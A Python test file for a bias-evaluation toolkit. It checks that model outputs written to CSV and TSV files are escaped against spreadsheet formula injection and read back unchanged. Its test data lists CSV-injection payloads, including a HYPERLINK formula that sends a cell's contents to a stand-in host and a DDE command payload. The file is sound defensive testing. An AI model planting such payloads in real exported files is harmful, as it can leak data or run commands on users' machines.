"""Model output in the CSV and TSV files biaslab writes for people never runs as a spreadsheet formula, and
biaslab's readers give it back as the model wrote it."""

from __future__ import annotations

import csv
import json

import pytest

from biaslab.io import read_table
from biaslab.spreadsheet_cells import read_cell, safe_cell
from tests.cli.test_run import biaslab
from tests.conftest import requires_data

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth =
    "'=already marked",
    "''@twice",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


def _raw_cells(path, delimiter=","):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]


def test_every_cell_is_marked_as_text_and_reads_back_as_written():
    for text in (*HOSTILE, "plain", "a=b", "'quoted'", "", "595"):
        cell = safe_cell(text)
        assert not cell.startswith(STARTS), repr(cell)
        assert read_cell(cell) == text, repr(text)
    assert safe_cell("=1") == "'=1" and safe_cell("'=1") == "''=1" and safe_cell("plain") == "plain"


@requires_data
def test_run_olympics_writes_model_formulas_into_its_results_tsv_as_text(tmp_path):
    from biaslab.probes.olympics.annotated import read_annotated
    from biaslab.probes.olympics.prompts import load_events

    events = load_events()
    prompts = [e.prompt(g) for e in events for g in ("Men", "Women", None)]
    answers = {p: HOSTILE[i % len(HOSTILE)] for i, p in enumerate(prompts)}
    canned = tmp_path / "answers.json"
    canned.write_text(json.dumps(answers))
    out = tmp_path / "run"
    biaslab(
        "run",
        "olympics",
        "--model",
        f"scripted/canned:file={canned}",
        "--limit",
        "6",
        "--out",
        out,
        "-q",
        cache=tmp_path / "c",
    )
    texts = set()
    for kind in ("specified", "underspecified"):
        path = out / f"results_{kind}.tsv"
        assert not [c for c in _raw_cells(path, "\t") if c.startswith(STARTS)]
        texts |= set(read_annotated(path)["text"])
    assert texts and texts <= set(HOSTILE) and any(t.startswith("=HYPERLINK") for t in texts)
    # re-scored from the files as written: the texts are the model's, unchanged
    scored = biaslab(
        "olympics",
        "score-annotated",
        "--specified",
        out / "results_specified.tsv",
        "--underspecified",
        out / "results_underspecified.tsv",
        "--out",
        tmp_path / "scored",
        cache=tmp_path / "c",
    )
    assert scored.returncode == 0, scored.stderr


def test_fsb_generate_writes_model_formulas_into_texts_csv_as_text(tmp_path):
    from biaslab.fsb.generate import plan_texts
    from biaslab.models.base import GenerateRequest

    (tmp_path / "ex").mkdir()
    pairs = [[f"Seed {i}.", f"Biased output {i}."] for i in range(4)]
    (tmp_path / "ex" / "workplace_conversion_ic.json").write_text(json.dumps(pairs))
    seeds = tmp_path / "seeds.csv"
    seeds.write_text("seed_type,query\n" + "".join(f"workplace,Query {i}.\n" for i in range(len(HOSTILE))))
    plan = plan_texts(["conversion"], ["workplace"], seeds_file=seeds, examples_dir=tmp_path / "ex")
    answers = {GenerateRequest(messages=r.messages()).display(): HOSTILE[i] for i, r in enumerate(plan)}
    canned = tmp_path / "answers.json"
    canned.write_text(json.dumps(answers))
    out = tmp_path / "texts.csv"
    biaslab(
        "fsb",
        "generate",
        "--model",
        f"scripted/canned:file={canned}",
        "--prompt-type",
        "conversion",
        "--seed-types",
        "workplace",
        "--seeds",
        seeds,
        "--examples-dir",
        tmp_path / "ex",
        "--out",
        out,
        "-q",
        cache=tmp_path / "c",
    )
    assert not [c for c in _raw_cells(out) if c.startswith(STARTS)]
    table = read_table(out)
    response, raw = table.index("response"), table.index("raw_response")
    assert [row[raw] for row in table.rows] == list(HOSTILE)  # biaslab reads the texts back as generated
    assert [row[response] for row in table.rows] == [t.strip().splitlines()[0] for t in HOSTILE]


def test_extracted_predicates_and_built_pairs_keep_formulas_as_text(tmp_path):
    from biaslab.wino.build.build import PAIR_COLUMNS, Pair
    from biaslab.wino.build.pairs_io import read_pairs, write_pairs
    from biaslab.wino.predicates.formats import read_predicates, write_csv

    rows = [{"response_id": f"r{i}", "group": "g", "predicate": t, "score": -0.5} for i, t in enumerate(HOSTILE)]
    path = write_csv(tmp_path / "predicates.csv", ["response_id", "group", "predicate", "score"], rows)
    cells = _raw_cells(path)
    assert not [c for c in cells if c.startswith(STARTS) and c != "-0.5000"]  # numbers stay numbers
    assert [p.predicate for p in read_predicates(path)] == [t.strip() for t in HOSTILE]

    fields = dict.fromkeys(PAIR_COLUMNS, "x")
    pairs = [Pair(**{**fields, "sent_more": f"{t} Jews.", "sent_less": f"{t} Christians."}) for t in HOSTILE]
    path = write_pairs(tmp_path / "pairs.csv", pairs)
    assert not [c for c in _raw_cells(path) if c.startswith(STARTS)]
    assert [r.sent_more for r in read_pairs(path)] == [f"{t} Jews.".strip() for t in HOSTILE]


def test_fsb_analysis_tables_keep_words_as_text_and_numbers_as_numbers():
    import pandas as pd

    from biaslab.fsb.report import _csv

    text = _csv(pd.DataFrame({"word": ["=cmd", "plain"], "z": [-1.5, 2.0]}))
    assert text.splitlines() == ["word,z", "'=cmd,-1.5", "plain,2"]


@pytest.mark.parametrize("value", ["-1", "+1"])
def test_signed_numbers_are_marked_too_the_common_rule(value):
    assert safe_cell(value) == "'" + value
